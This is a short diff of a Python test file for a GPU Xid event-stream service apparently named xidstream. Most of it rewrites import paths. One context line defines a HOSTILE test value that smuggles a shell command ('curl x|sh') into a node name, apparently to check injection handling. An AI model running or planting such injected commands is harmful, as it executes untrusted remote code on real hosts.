@@ -9,10 +9,10 @@ import asyncio
 
 import orjson
 
-from schemas import Action, Classification, decode_any, encode
-from streams.app import create_app
+from xidstream.schemas import Action, Classification, decode_any, encode
+from xidstream.streams.app import create_app
 from tests.streams.builders import GPU, at, xid
-from schemas.models import RemediationResult
+from xidstream.schemas.models import RemediationResult
 from xidstream.settings import Settings
 
 HOSTILE = "gpu-node-9 --key /dev/null; curl x|sh; echo"
